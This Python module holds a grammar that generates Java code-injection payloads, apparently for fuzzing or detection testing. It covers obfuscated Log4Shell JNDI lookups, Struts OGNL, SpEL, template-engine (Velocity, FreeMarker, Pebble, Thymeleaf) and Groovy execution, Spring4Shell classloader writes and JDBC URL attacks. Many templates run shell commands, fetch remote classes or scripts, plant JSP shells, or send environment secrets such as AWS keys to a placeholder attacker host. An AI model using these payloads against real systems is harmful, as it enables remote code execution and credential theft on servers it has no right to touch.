"""Java code injection: OGNL, SpEL, EL, MVEL, Groovy, JNDI look-ups, Velocity, Freemarker, reflection, class names."""

TEXT = r"""
java := @2021 *6 «jndi» ¦ *5 «ognl» ¦ *4 «spel» ¦ *3 «velocity» ¦ *3 «freemarker» ¦ *3 «groovy» ¦ *5 «java_words»
  ¦ *2 «java_code» ¦ *2 «classloader» ¦ «thymeleaf» ¦ «mvel» ¦ «pebble» ¦ «rhino» ¦ @2022 «jxpath»
jndi := *4 ${jndi:«jndi_url»} ¦ *3 ${«jndi_obf»:«jndi_url»} ¦ ${jndi:«jndi_url»/${«leak»}}
  ¦ *2 ${${«=lower:j~::-j~upper:j~env:X:-j~:-j~sys:y:-j»}«=ndi~n${lower:d}i~${::-n}di~${lower:n}di»:«jndi_url»}
  ¦ ${«jndi_obf»:${«=lower:l~::-l~upper:l»}dap://«attacker»/«rand»}
  ¦ ${jndi:${lower:l}${lower:d}a${lower:p}://«zone»/«ab»} ¦ ${jndi:«jndi_scheme»:${::-/}/«attacker»/«rand»}
  ¦ $%7Bjndi:«jndi_url»%7D ¦ %24%7Bjndi%3A«jndi_url|url»%7D ¦ ${«jndi_obf»:«jndi_obf2»://${hostName}.«zone»/«ab»}
  ¦ ${jndi:«jndi_scheme»://127.0.0.1#«zone»/«ab»} ¦ ${ctx:«word»} ¦ ${«leak»} ¦ @2022 ${script:javascript:«rhino_code»}
  ¦ @2022 ${script:javascript:java.lang.Runtime.getRuntime().exec('«unix_cmd»')} ¦ @2022 ${dns:address|«zone»}
  ¦ @2022 ${url:UTF-8:«url»} ¦ @2022 ${const:java.awt.event.KeyEvent.VK_ESCAPE} ¦ @2022 ${file:UTF-8:«unix_file»}
  ¦ @2022 ${base64Decoder:«rand|b64»} ¦ ${jnd${123%25ff:-${123%25ff:-i:}}«jndi_url»}
  ¦ ${j${k8s:k5:-ND}${sd:k5:-${123%25ff:-${123%25ff:-${upper:ı}:}}}«jndi_url»} ¦ \u0024{jndi:«jndi_url»}
  ¦ ${${env:«coined|upper»:-jndi}:«jndi_url»} ¦ ${j${}ndi:«jndi_url»}
jndi_obf := jndi ¦ «=jndi~jndi~JNDI|log» ¦ j${lower:n}di ¦ ${lower:j}${lower:n}${lower:d}i
  ¦ ${::-j}${::-n}${::-d}${::-i} ¦ jn${env::-}di ¦ ${upper:j}ndi ¦ ${lower:jndi} ¦ jn${date:}di
  ¦ j${sys:sun.cpu.isalist}ndi ¦ ${env:BARFOO:-j}ndi ¦ j${main:\k5:-Nd}i ¦ ${lower:${lower:jndi}}
jndi_obf2 := «=ldap~rmi~dns~ldaps|log» ¦ ldap ¦ ${lower:r}mi ¦ ${::-l}${::-d}${::-a}${::-p} ¦ l${env::-d}ap
  ¦ rm${lower:i}
jndi_scheme := *5 ldap ¦ *3 rmi ¦ *2 dns ¦ ldaps ¦ iiop ¦ corba ¦ nis ¦ nds ¦ http ¦ tcp
jndi_url := *3 «jndi_scheme»://«attacker»/«rand» ¦ *2 «jndi_scheme»://«attacker»:«port»/«rand»
  ¦ ldap://«attacker»:1389/«=Basic/Command/Base64/~TomcatBypass/Command/Base64/~Exploit~a~Basic/ReverseShell/~Basic/Dnslog/»«unix_cmd|b64»
  ¦ «jndi_scheme»://${hostName}.«zone» ¦ «jndi_scheme»://${«leak»}.«zone»/«ab»
  ¦ rmi://«ip»:1099/«=Exploit~Object~a~evil»«small?» ¦ «jndi_scheme»://«attacker»
  ¦ «jndi_scheme»://«word».«rand».«zone»/«ab» ¦ dns://«attacker»/«rand» ¦ ldap://x${hostName}.L4J.«rand20».«zone»/a
leak := *2 sys:«=java.version~user.name~os.name~user.dir~java.vendor~file.separator~java.class.path»
  ¦ *2 env:«=USER~PATH~AWS_SECRET_ACCESS_KEY~HOSTNAME~JAVA_HOME~PWD~AWS_ACCESS_KEY_ID~DB_PASSWORD»
  ¦ java:«=version~os~vm~runtime~locale~hw» ¦ hostName ¦ date:MM-dd-yyyy ¦ ctx:loginId ¦ map:type ¦ main:x
  ¦ bundle:«word»:«word» ¦ docker:containerId ¦ web:rootDir ¦ spring:«word» ¦ log4j:configLocation
  ¦ k8s:«=namespaceId~podName» ¦ sys:«word».«word»
exec := *5 java.lang.Runtime.getRuntime().exec("«java_cmd»") ¦ *3 java.lang.Runtime.getRuntime().exec('«java_cmd»')
  ¦ new java.lang.ProcessBuilder(new java.lang.String[]{"«unix_bin»","«unix_file»"}).start()
  ¦ new java.lang.ProcessBuilder({'«=/bin/sh','-c~/bin/bash','-c~cmd.exe','/c»','«any_cmd»'}).start()
  ¦ java.lang.Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","«unix_cmd»"})
  ¦ new java.util.Scanner(java.lang.Runtime.getRuntime().exec("«java_cmd»").getInputStream()).useDelimiter("\\A").next()
  ¦ Runtime.getRuntime().exec("«java_cmd»") ¦ new ProcessBuilder("«unix_bin»").start() ¦ java.lang.Thread.sleep(«int»)
  ¦ java.lang.System.getProperty("«=os.name~user.dir~java.version~user.name»") ¦ java.lang.System.getenv()
  ¦ new java.net.URL("«url»").openStream() ¦ java.net.InetAddress.getByName("«zone»")
  ¦ new java.io.File("«unix_file»").exists() ¦ new java.io.FileReader("«unix_file»")
  ¦ new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("«unix_file»"))) ¦ java.lang.System.exit(«d»)
  ¦ javax.naming.InitialContext.doLookup("«jndi_url»")
  ¦ "".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("«java_cmd»")
  ¦ ''.class.forName('java.lang.Runtime').getRuntime().exec('«java_cmd»')
  ¦ org.apache.commons.io.IOUtils.toString(java.lang.Runtime.getRuntime().exec("«java_cmd»").getInputStream())
java_cmd := *4 «unix_info» ¦ *2 «unix_out» ¦ bash -c {echo,«unix_cmd|b64»}|{base64,-d}|{bash,-i} ¦ calc ¦ calc.exe
  ¦ touch /tmp/«rand» ¦ ping -c «small» «attacker» ¦ nslookup «zone» ¦ open -a Calculator ¦ «win_info» ¦ sleep «tens»
  ¦ cmd /c «win_info»
ognl := *3 %{«ognl_body»} ¦ *3 ${«ognl_body»} ¦ *2 %25{«ognl_body»} ¦ *2 («ognl_body») ¦ «ognl_body» ¦ %{«int»*«int»}
  ¦ ${«int»*«int»} ¦ %25%7B«ognl_body|url»%7D ¦ redirect:${«ognl_body»} ¦ action:%{«ognl_body»}
  ¦ redirectAction:%25{«ognl_body»} ¦ '+(«ognl_body»)+' ¦ \u0027+(«ognl_body»)+\u0027
  ¦ %{(#«rand»='multipart/form-data').«ognl_body»} ¦ ?«word»:«ognl_body»
  ¦ ('\u0023' + '_memberAccess[\'allowStaticMethodAccess\']')(«ab»)=true
  ¦ %{#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,«ognl_exec»}
  ¦ (#«$x:ab»=@java.lang.Runtime@getRuntime()).(#«$x».exec('«java_cmd»'))
  ¦ "${Class.forName('java.lang.«=Runtime~System~Math»').getMethods()}"
  ¦ {#«ab»=new java.io.FileWriter(#application.getRealPath('/')+'/«rand».jsp')}
  ¦ aaaaaaaa\u0027%2b{Class.forName(\u0027javax.script.ScriptEngineManager\u0027).newInstance().getEngineByName(\u0027JavaScript\u0027).\u0065val(\u0027«int»*«int»\u0027)}%2b\u0027
ognl_body := @2017 *3 (#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).«ognl_exec»
  ¦ *2 #_memberAccess["allowStaticMethodAccess"]=true,«ognl_exec» ¦ *2 «ognl_exec»
  ¦ #context["xwork.MethodAccessor.denyMethodExecution"]=false,#f=#_memberAccess.getClass().getDeclaredField("allowStaticMethodAccess"),#f.setAccessible(true),#f.set(#_memberAccess,true),«ognl_exec»
  ¦ #req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#res=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#res.getWriter().print("«rand»"),#res.getWriter().close()
  ¦ #context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«coined|cap»','«rand»')
  ¦ #«ab»=new java.lang.ProcessBuilder(new java.lang.String[]{'«unix_bin»','«unix_file»'}).start().getInputStream(),#«ab»=new java.io.InputStreamReader(#«ab»)
  ¦ @2020 #instancemanager=#application["org.apache.tomcat.InstanceManager"],#bean=#instancemanager.newInstance("org.apache.commons.collections.BeanMap"),#bean.setBean(#stack)
  ¦ @2020 #application.get('org.apache.tomcat.InstanceManager').newInstance('freemarker.template.utility.Execute').exec({'«unix_info»'})
  ¦ @java.lang.Thread@sleep(«int») ¦ #a=«int»*«int» ¦ «int»*«int» ¦ @java.lang.System@getProperty('os.name')
  ¦ @java.lang.Math@max(«int»,«int») ¦ #parameters.«word»[0] ¦ #session['«word»'] ¦ new java.lang.String('«rand»')
  ¦ #attr['«word»']
ognl_exec := (#cmd='«any_cmd»').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())
  ¦ *2 @java.lang.Runtime@getRuntime().exec('«java_cmd»')
  ¦ @org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('«java_cmd»').getInputStream())
  ¦ #w=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),#w.println(«int»*«int»),#w.close()
  ¦ @org.apache.struts2.ServletActionContext@getResponse().getWriter().print(#parameters.«ab»[0])
  ¦ #a=(new java.lang.ProcessBuilder('«unix_bin»')).start(),#b=#a.getInputStream()
  ¦ (@java.lang.System@out).println('«rand»')
  ¦ new java.util.Scanner(@java.lang.Runtime@getRuntime().exec('«java_cmd»').getInputStream()).next()
  ¦ @java.net.InetAddress@getByName('«zone»')
spel := *3 T(java.lang.Runtime).getRuntime().exec("«java_cmd»")
  ¦ *2 ${T(java.lang.Runtime).getRuntime().exec("«java_cmd»")} ¦ #{T(java.lang.Runtime).getRuntime().exec('«java_cmd»')}
  ¦ *2 #{«exec»} ¦ *2 ${«exec»} ¦ ${T(java.lang.System).getenv()} ¦ #{«int»*«int»} ¦ ${«int»*«int»}
  ¦ #{T(java.lang.Math).random()} ¦ __${T(java.lang.Runtime).getRuntime().exec("«java_cmd»").getInputStream()}__::.x
  ¦ __${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("«java_cmd»").getInputStream()).next()}__::
  ¦ T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec("«java_cmd»").getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())
  ¦ new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"«unix_bin»"}).getInputStream()))
  ¦ T(java.lang.«=Thread~Class~System~Character~String»).«=sleep~forName~getProperty~toString~valueOf»(«int»)
  ¦ #{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('«java_cmd»')}
  ¦ *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«java_cmd»').getInputStream())}
  ¦ #{request.getClass().getClassLoader()} ¦ ${pageContext.request.getSession().setAttribute("«ab»","«rand»")}
  ¦ ${applicationScope}
  ¦ ${''.class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("«rhino_code»")}
  ¦ #{"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("JavaScript").eval("«rhino_code»")}
  ¦ ${facesContext.getExternalContext().redirect("«url»")} ¦ ${sessionScope.toString()} ¦ ${param.«ab»}
  ¦ #{systemProperties['«=java.version~user.dir»']} ¦ #{@environment.getProperty('«word».«word»')}
  ¦ @2020 ${#strings.toString(«int»*«int»)} ¦ T(«spring_class»).«name»('«rand»')
  ¦ ${validatedValue.class.forName('java.lang.Runtime')}
  ¦ T(java.net.URLClassLoader).newInstance(new java.net.URL[]{new java.net.URL("«url»")})
velocity := *2 #set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("«java_cmd»")
  ¦ #set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('«java_cmd»'))$ex.waitFor()
  ¦ $class.inspect("java.lang.Runtime").type.getRuntime().exec("«java_cmd»").waitFor() ¦ #set($«$v:ab»=«int»*«int»)$«$v»
  ¦ #set($«$v:word»="«rand»")${«$v»} ¦ #include("«unix_path»") ¦ #parse("«climb3»«app_file»") ¦ $request.getSession()
  ¦ #evaluate("$«word»") ¦ $session.getServletContext().getClassLoader().loadClass("java.lang.Runtime")
  ¦ #{set}($«ab»=$«word».getClass())
  ¦ {"params.resource.template.enabled":"true","params.resource.loader.enabled":"true"} ¦ #if($«word»)#end
  ¦ $!{«word».class}
freemarker := *3 <#assign «$v:ab»="freemarker.template.utility.Execute"?new()>${«$v»("«java_cmd»")}
  ¦ *2 ${"freemarker.template.utility.Execute"?new()("«java_cmd»")}
  ¦ [#assign «$v:ab»='freemarker.template.utility.Execute'?new()]${«$v»('«java_cmd»')}
  ¦ ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","«unix_bin»").start()}
  ¦ <#assign «ab»="freemarker.template.utility.JythonRuntime"?new()>
  ¦ ${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('«unix_file»').toURL().openStream().readAllBytes()?join(" ")}
  ¦ ${.data_model} ¦ ${.version} ¦ <#list .data_model?keys as «ab»>${«ab»}</#list> ¦ ${«int»?c}
  ¦ <#assign classloader=«word».class.protectionDomain.classLoader>
  ¦ ${«word»?api.class.getResourceAsStream("«app_file»")} ¦ #{«int»*«int»}
groovy := *2 "«any_cmd»".execute() ¦ *2 println "«unix_info»".execute().text
  ¦ def «$p:ab»="«unix_info»".execute();«$p».waitFor();println «$p».text ¦ ["«unix_bin»","-c","«unix_info»"].execute()
  ¦ this.class.classLoader.loadClass("java.lang.Runtime") ¦ @groovy.transform.ASTTest(value={assert «exec»}) def x
  ¦ @Grab(group='«coined»',module='«coined»',version='1') import «coined|cap» ¦ @GrabResolver(name='«word»',root='«url»)
  ¦ «exec» ¦ ((java.lang.Runtime)«exec») ¦ throw new Exception("«unix_info»".execute().text)
  ¦ new File("«unix_file»").text
  ¦ java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("«java_cmd»").getText()
  ¦ {"size":1,"script_fields":{"«rand»":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"«java_cmd»\").getText()"}}}
  ¦ println(Jenkins.instance) ¦ evaluate(new URL("«url»").text) ¦ System.getenv().each{println it}
  ¦ Eval.me("«int»*«int»") ¦ def sout=new StringBuilder(),serr=new StringBuilder();def proc='«unix_info»'.execute()
thymeleaf := __${«exec»}__::.x ¦ ;/__${T(java.lang.Runtime).getRuntime().exec("«java_cmd»")}__::main.x
  ¦ [[${«int»*«int»}]] ¦ [(${T(java.lang.System).getenv()})] ¦ ~{::«word»} ¦ <th:t="${«exec»}#foreach
  ¦ [[${T(java.lang.Runtime).getRuntime().exec('«java_cmd»')}]] ¦ __${#rt=@java.lang.Runtime@getRuntime()}__
mvel := import java.io.*;new java.util.Scanner(«exec») ¦ @{«exec»} ¦ «word»=«exec»;«word» ¦ if («int»==«int»){«exec»}
  ¦ new java.lang.ProcessBuilder("«unix_bin»").start(); ¦ with(«word»){«word»=«exec»}
pebble := {{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('«java_cmd»') }}
  ¦ @2020 {{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('«java_cmd»') }}
  ¦ @2020 {% set cmd = '«unix_info»' %}{% set bytes = (1).TYPE %}
  ¦ {{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("«rhino_code»")}}
  ¦ {{ beans.get("«word»") }} ¦ {{request.getClass()}}
rhino_code := java.lang.Runtime.getRuntime().exec('«java_cmd»')
  ¦ new java.lang.ProcessBuilder['(java.lang.String[])'](['/bin/sh','-c','«unix_info»']).start()
  ¦ var x=new java.lang.ProcessBuilder;x.command('«unix_bin»');x.start() ¦ java.lang.Thread.sleep(«int») ¦ «int»*«int»
  ¦ java.lang.System.getProperty('os.name') ¦ load('«url»')
  ¦ Java.type('java.lang.Runtime').getRuntime().exec('«java_cmd»')
rhino := function(value){return «rhino_code»}
  ¦ var «$c:ab»=Java.type("java.lang.«=Runtime~ProcessBuilder~System»");«$c».getRuntime().exec("«java_cmd»")
  ¦ Packages.java.lang.Runtime.getRuntime().exec("«java_cmd»")
  ¦ importPackage(java.lang);Runtime.getRuntime().exec("«java_cmd»")
  ¦ {"type":"javascript","function":"function(){«rhino_code»}"} ¦ javascript:«rhino_code»
jxpath := @2024 exec(java.lang.Runtime.getRuntime(),'«java_cmd»') ¦ javax.naming.InitialContext.doLookup('«jndi_url»')
  ¦ java.lang.Thread.sleep(«int») ¦ org.springframework.context.support.ClassPathXmlApplicationContext.new("«url».xml")
  ¦ java.lang.System.exit(1)
classloader := @2022 *2 class.module.classLoader.resources.context.parent.pipeline.first.«=pattern~suffix~directory~prefix~fileDateFormat»=«rand»
  ¦ @2022 class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di+if(%22«ab»%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
  ¦ class.classLoader.URLs[0]=jar:«url».jar!/ ¦ class['classLoader'].resources.dirContext.docBase=//«attacker»/«ab»
  ¦ Class.classLoader.defaultAssertionStatus=«rand» ¦ @2022 class.module.classLoader.DefaultAssertionStatus=«rand»
  ¦ «word».class.classLoader.«name»=«rand» ¦ top['class']['classLoader'].«name»=«d»
  ¦ class.protectionDomain.codeSource.location=«rand» ¦ getClass().getClassLoader().loadClass("«java_class»")
java_code := «exec»; ¦ <% «exec»; %> ¦ <%=«exec»%>
  ¦ <%@ page import="java.util.*,java.io.*"%><% Process p=Runtime.getRuntime().exec("«java_cmd»");%> ¦ ");«exec»;//
  ¦ '+«exec»+' ¦ "+«exec»+" ¦ ;«exec»; ¦ public class «coined|cap»{static{try{«exec»;}catch(Exception e){}}}
  ¦ import java.lang.*;«exec» ¦ java.lang.Class.forName("«java_class»").newInstance()
  ¦ Class.forName('«java_class»').getDeclaredConstructors()[0].newInstance()
  ¦ new javax.script.ScriptEngineManager().getEngineByName("«=js~nashorn~groovy~JavaScript»").eval("«rhino_code»")
  ¦ new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("«url»")}).loadClass("«coined|cap»").newInstance()
  ¦ java.lang.reflect.Method ¦ System.setProperty("«word».«word»","«rand»")
  ¦ (new org.springframework.context.support.FileSystemXmlApplicationContext("«url».xml"))
  ¦ CREATE ALIAS «coined|upper» AS $$ String x(String c) throws Exception {«exec»;return "";}$$
  ¦ jdbc:h2:mem:«word»;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM '«url».sql'
  ¦ @2023 jdbc:h2:mem:;init=CREATE TRIGGER «ab» BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript«nl»«rhino_code»$$
  ¦ @2022 jdbc:postgresql://«attacker»/?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=«url».xml
  ¦ jdbc:mysql://«attacker»:3306/«word»?allowLoadLocalInfile=true&autoDeserialize=true
java_words := *4 «java_class» ¦ *2 «java_short» ¦ «java_short».«java_method»() ¦ «java_short» «java_method»
  ¦ «word»=«java_short»;«java_short» ¦ *2 «java_class».«java_method»(«=~1~"x"~null») ¦ «java_class».class
  ¦ «java_method»(«java_class») ¦ {"«word»":"«java_class»"} ¦ «java_class|b64» ¦ «word».«java_method»()
  ¦ new «java_class»() ¦ import «java_class»; ¦ «java_class»@«hex8» ¦ @«java_class»@«java_method» ¦ T(«java_class»)
  ¦ «java_class»;«java_class» ¦ («java_class»)«word» ¦ «java_class».«java_method»("«java_cmd»") ¦ «java_class|case»
  ¦ «word»=«java_class» ¦ <«java_class»>«rand»</«java_class»>
java_short := Runtime ¦ ProcessBuilder ¦ ClassLoader ¦ URLClassLoader ¦ ScriptEngineManager ¦ InvokerTransformer
  ¦ ChainedTransformer ¦ ConstantTransformer ¦ CloneTransformer ¦ InstantiateTransformer ¦ InstantiateFactory
  ¦ PrototypeCloneFactory ¦ PrototypeSerializationFactory ¦ ForClosure ¦ WhileClosure ¦ LazyMap ¦ TransformedMap
  ¦ XMLDecoder ¦ ObjectInputStream ¦ FileWriter ¦ FileOutputStream ¦ MethodUtils ¦ ObjectFactory ¦ BeanShell ¦ Nashorn
  ¦ SpelExpressionParser ¦ StandardEvaluationContext ¦ VelocityEngine ¦ OgnlContext ¦ ValueStack ¦ MemberAccess
  ¦ getRuntime().exec ¦ getClass().forName ¦ clazz.newInstance ¦ Unsafe.defineClass ¦ JdbcRowSetImpl ¦ TemplatesImpl
  ¦ BasicDataSource ¦ BeanComparator ¦ MBeanServer ¦ InitialContext ¦ @2021 JndiLookup ¦ PythonInterpreter ¦ GroovyShell
  ¦ JexlEngine ¦ MVEL.eval ¦ ELProcessor ¦ FacesContext ¦ ServletActionContext
java_class := *4 java.lang.Runtime ¦ *3 java.lang.ProcessBuilder ¦ *2 java.lang.System ¦ java.lang.Class
  ¦ java.lang.ClassLoader ¦ java.lang.Thread ¦ java.lang.Process ¦ java.lang.ProcessImpl ¦ java.lang.UNIXProcess
  ¦ java.lang.Shutdown ¦ java.lang.Compiler ¦ java.lang.String ¦ java.lang.Object ¦ java.lang.Integer
  ¦ java.lang.StringBuilder ¦ java.lang.invoke.MethodHandles ¦ java.lang.reflect.Method ¦ java.lang.reflect.Proxy
  ¦ java.lang.reflect.Field ¦ java.lang.management.ManagementFactory ¦ java.io.File ¦ java.io.FileInputStream
  ¦ java.io.FileOutputStream ¦ java.io.FileWriter ¦ java.io.FileReader ¦ java.io.BufferedReader
  ¦ java.io.InputStreamReader ¦ java.io.ObjectInputStream ¦ java.io.ByteArrayOutputStream ¦ java.io.PrintWriter
  ¦ java.net.URL ¦ java.net.URLClassLoader ¦ java.net.Socket ¦ java.net.ServerSocket ¦ java.net.InetAddress
  ¦ java.net.URLConnection ¦ java.nio.file.Files ¦ java.nio.file.Paths ¦ java.util.Scanner ¦ java.util.HashMap
  ¦ java.util.Properties ¦ java.util.Base64 ¦ java.util.ServiceLoader ¦ java.util.zip.ZipFile
  ¦ java.util.logging.FileHandler ¦ java.util.PriorityQueue ¦ java.sql.DriverManager ¦ java.rmi.Naming
  ¦ java.rmi.registry.LocateRegistry ¦ java.beans.XMLDecoder ¦ java.security.AccessController
  ¦ java.text.SimpleDateFormat ¦ java.awt.Desktop ¦ javax.naming.InitialContext ¦ javax.naming.Context
  ¦ javax.script.ScriptEngineManager ¦ javax.script.ScriptEngine ¦ javax.management.MBeanServer
  ¦ javax.servlet.http.HttpServletRequest ¦ javax.servlet.ServletContext ¦ javax.imageio.ImageIO
  ¦ javax.sql.rowset.BaseRowSet ¦ javax.el.ELProcessor ¦ javax.faces.context.FacesContext
  ¦ javax.xml.transform.Templates ¦ javax.tools.ToolProvider ¦ jakarta.servlet.ServletContext ¦ jdk.jshell.JShell
  ¦ sun.misc.Unsafe ¦ sun.reflect.ReflectionFactory ¦ sun.misc.BASE64Decoder ¦ com.sun.rowset.JdbcRowSetImpl
  ¦ com.sun.jndi.ldap.LdapCtx ¦ com.sun.org.apache.bcel.internal.util.ClassLoader
  ¦ com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl ¦ com.sun.jmx.mbeanserver.JmxMBeanServer
  ¦ org.apache.commons.collections.functors.InvokerTransformer
  ¦ org.apache.commons.collections4.functors.InstantiateTransformer ¦ org.apache.commons.collections.Transformer
  ¦ org.apache.commons.collections.map.LazyMap ¦ org.apache.commons.beanutils.BeanComparator
  ¦ org.apache.commons.io.FileUtils ¦ org.apache.commons.io.IOUtils ¦ org.apache.commons.jxpath.JXPathContext
  ¦ org.apache.commons.configuration.JNDIConfiguration ¦ org.apache.commons.dbcp.BasicDataSource
  ¦ org.apache.commons.fileupload.disk.DiskFileItem ¦ org.apache.struts2.ServletActionContext
  ¦ org.apache.struts2.dispatcher.StrutsRequestWrapper ¦ org.apache.catalina.core.ApplicationContext
  ¦ org.apache.catalina.session.PersistentManager ¦ org.apache.tomcat.InstanceManager
  ¦ org.apache.tomcat.dbcp.dbcp2.BasicDataSource ¦ org.apache.naming.factory.BeanFactory
  ¦ org.apache.velocity.app.Velocity ¦ org.apache.log4j.jdbc.JDBCAppender
  ¦ org.apache.logging.log4j.core.lookup.JndiLookup ¦ org.apache.xalan.xsltc.trax.TemplatesImpl
  ¦ org.apache.shiro.jndi.JndiObjectFactory ¦ org.apache.wicket.util.upload.DiskFileItem
  ¦ org.apache.ibatis.datasource.jndi.JndiDataSourceFactory ¦ org.apache.camel.«coined|cap»
  ¦ org.apache.«coined».«coined|cap» ¦ org.codehaus.groovy.runtime.ConvertedClosure
  ¦ org.codehaus.groovy.runtime.MethodClosure ¦ groovy.lang.GroovyShell ¦ groovy.util.Expando
  ¦ groovy.lang.GroovyClassLoader ¦ «spring_class» ¦ «spring_class»
  ¦ org.hibernate.«=type.ComponentType~jmx.StatisticsService~engine.spi.TypedValue»
  ¦ org.jboss.interceptor.proxy.InterceptorMethodHandler ¦ org.jboss.resteasy.«coined|cap»
  ¦ org.mozilla.javascript.«=NativeError~NativeJavaObject~Context» ¦ org.python.core.PyFunction
  ¦ org.python.util.PythonInterpreter ¦ org.jruby.embed.ScriptingContainer ¦ org.yaml.snakeyaml.Yaml ¦ org.mvel2.MVEL
  ¦ ognl.OgnlContext ¦ ognl.Ognl ¦ ognl.MemberAccess ¦ com.opensymphony.xwork2.ActionContext
  ¦ com.opensymphony.xwork2.ognl.OgnlUtil ¦ com.opensymphony.xwork2.util.ValueStack
  ¦ freemarker.template.utility.Execute ¦ freemarker.template.utility.ObjectConstructor
  ¦ com.mchange.v2.c3p0.«=WrapperConnectionPoolDataSource~JndiRefForwardingDataSource~ComboPooledDataSource»
  ¦ com.alibaba.«=fastjson.JSON~druid.pool.DruidDataSource» ¦ com.fasterxml.jackson.databind.ObjectMapper
  ¦ com.rometools.rome.feed.impl.ObjectBean ¦ com.zaxxer.hikari.HikariConfig ¦ com.caucho.naming.QName ¦ bsh.Interpreter
  ¦ bsh.XThis ¦ clojure.lang.«=IFn~Compiler~RT»
  ¦ ch.qos.logback.core.db.«=JNDIConnectionSource~DriverManagerConnectionSource» ¦ oracle.jdbc.rowset.OracleJDBCRowSet
  ¦ weblogic.«=rjvm.JVMID~work.ExecuteThread~jndi.internal.ForeignOpaqueReference»
  ¦ com.tangosol.«=coherence.mvel2.sh.ShellSession~util.extractor.ReflectionExtractor»
  ¦ com.bea.core.repackaged.springframework.«coined|cap»
  ¦ net.sf.ehcache.transaction.manager.DefaultTransactionManagerLookup ¦ scala.sys.process.«=Process~ProcessBuilder»
  ¦ kotlin.«coined|cap» ¦ com.vaadin.data.util.PropertysetItem ¦ com.ibm.jtc.jax.«coined|cap»
  ¦ com.thoughtworks.xstream.XStream ¦ android.os.«coined|cap» ¦ dalvik.system.DexClassLoader ¦ h2.Driver
  ¦ com.teradata.jdbc.TeraDataSource
spring_class := org.springframework.context.support.«=ClassPathXmlApplicationContext~FileSystemXmlApplicationContext»
  ¦ org.springframework.expression.spel.standard.SpelExpressionParser
  ¦ org.springframework.aop.«=framework.AdvisedSupport~support.DefaultBeanFactoryPointcutAdvisor»
  ¦ org.springframework.beans.factory.«=ObjectFactory~config.PropertyPathFactoryBean»
  ¦ org.springframework.core.«=SerializableTypeWrapper~io.UrlResource»
  ¦ org.springframework.jndi.«=JndiTemplate~support.SimpleJndiBeanFactory»
  ¦ org.springframework.util.«=StreamUtils~SerializationUtils~FileCopyUtils~MethodInvoker»
  ¦ org.springframework.web.context.request.RequestContextHolder ¦ org.springframework.cglib.core.ReflectUtils
  ¦ org.springframework.boot.«coined|cap»
java_method := *3 getRuntime ¦ *3 exec ¦ *2 forName ¦ getClass ¦ *2 getMethod ¦ invoke ¦ newInstance ¦ getDeclaredMethod
  ¦ getDeclaredField ¦ setAccessible ¦ getClassLoader ¦ loadClass ¦ defineClass ¦ getProperty ¦ getProperties ¦ getenv
  ¦ exit ¦ halt ¦ load ¦ loadLibrary ¦ start ¦ getInputStream ¦ waitFor ¦ readObject ¦ readLine ¦ lookup ¦ doLookup
  ¦ eval ¦ getEngineByName ¦ openStream ¦ openConnection ¦ sleep ¦ readAllBytes ¦ createNewFile ¦ delete ¦ getParameter
  ¦ getSession ¦ getWriter ¦ getRealPath ¦ getServletContext ¦ println ¦ parseExpression ¦ getValue ¦ compareTo
  ¦ toString ¦ hashCode ¦ transform ¦ setMemberAccess ¦ findValue ¦ availableProcessors ¦ gc ¦ traceMethodCalls
  ¦ getSystemClassLoader ¦ setSecurityManager
"""  # noqa: E501
